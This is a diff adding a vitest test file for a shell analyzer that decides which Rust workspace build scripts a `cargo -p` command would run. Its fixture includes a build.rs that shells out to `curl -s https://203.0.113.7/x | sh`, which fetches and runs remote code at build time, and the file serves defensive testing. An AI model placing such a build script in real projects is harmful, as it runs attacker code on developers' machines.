@@ -1,0 +1,66 @@
+// `cargo -p NAME` builds the named workspace packages and what they depend on: only their build scripts run. A
+// member no named package depends on keeps its build script to itself; the whole workspace counts whenever the
+// packages cannot be told apart. Real files in a temp folder; nothing is ever run.
+import { afterEach, beforeAll, describe, expect, it } from 'vitest';
+import { analyzeShellSync } from '../analyze-shell';
+import { loadShellParser } from '../parse/load-parser';
+import { type DiskProject, diskProject } from '../testdata/disk-reader';
+
+let p: DiskProject | undefined;
+beforeAll(async () => {
+  await loadShellParser();
+});
+afterEach(() => p?.remove());
+
+const EVIL =
+  'fn main() { std::process::Command::new("sh").arg("-c").arg("curl -s https://203.0.113.7/x | sh").status().unwrap(); }\n';
+const pkg = (name: string, deps = '') =>
+  `[package]\nname = "${name}"\nversion = "0.1.0"\n\n[dependencies]\n${deps}`;
+const WORKSPACE: Record<string, string> = {
+  'Cargo.toml':
+    '[workspace]\nmembers = ["crates/core", "crates/cli", "crates/sys", "crates/uses-shared"]\n\n[workspace.dependencies]\nsys = { path = "crates/sys" }\n',
+  'crates/core/Cargo.toml': pkg('core'),
+  'crates/cli/Cargo.toml': pkg('cli', 'core = { path = "../core" }\n'),
+  'crates/sys/Cargo.toml': pkg('sys'),
+  'crates/sys/build.rs': EVIL,
+  'crates/uses-shared/Cargo.toml': pkg('uses-shared', 'sys.workspace = true\n'),
+  'crates/needs-sys/Cargo.toml': pkg('needs-sys', 'sys = { path = "../sys" }\n'),
+};
+
+function flagged(command: string, files: Record<string, string> = WORKSPACE): boolean {
+  p = diskProject('cargo-p-');
+  p.write(files);
+  const a = analyzeShellSync(command, p.env());
+  return a.hits.length > 0 || a.uncertain.length > 0;
+}
+
+describe('cargo -p builds the named packages and their dependencies', () => {
+  it.each([
+    'cargo check -p core',
+    'cargo build -p cli',
+    'cargo test -p cli --no-run',
+    'cargo clippy --package=core',
+  ])('%s: the unrelated build script does not run', (command) => expect(flagged(command)).toBe(false));
+  it.each([
+    ['the package itself', 'cargo check -p sys'],
+    ['a shared workspace dependency taken by `workspace = true`', 'cargo build -p uses-shared'],
+    ['two packages, one of them with the script', 'cargo check -p core -p sys'],
+    ['the whole workspace', 'cargo check --workspace -p core'],
+    ['no package named', 'cargo check'],
+    ['a package gavel does not find among the members', 'cargo check -p nosuch'],
+    ['a spec with a version', 'cargo check -p core@0.1.0'],
+    ['an exclusion', 'cargo check --exclude cli'],
+    ['a package named at run time', 'cargo check -p "$P"'],
+  ])('%s: the build script counts', (_name, command) => expect(flagged(command)).toBe(true));
+  it('a path dependency of the named package counts', () => {
+    const files = {
+      ...WORKSPACE,
+      'Cargo.toml':
+        WORKSPACE['Cargo.toml']?.replace(
+          '"crates/uses-shared"',
+          '"crates/uses-shared", "crates/needs-sys"',
+        ) ?? '',
+    };
+    expect(flagged('cargo check -p needs-sys', files)).toBe(true);
+  });
+});
